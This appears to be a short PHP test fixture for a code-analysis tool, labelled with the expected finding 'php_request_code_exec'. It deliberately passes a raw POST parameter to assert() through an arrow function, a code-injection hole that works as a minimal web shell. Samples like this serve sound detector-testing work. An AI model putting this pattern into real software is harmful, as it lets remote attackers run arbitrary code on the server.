<?php
// want: php_request_code_exec
$p = $_POST['p'];
$f = fn($x) => assert($x);
$f($p);
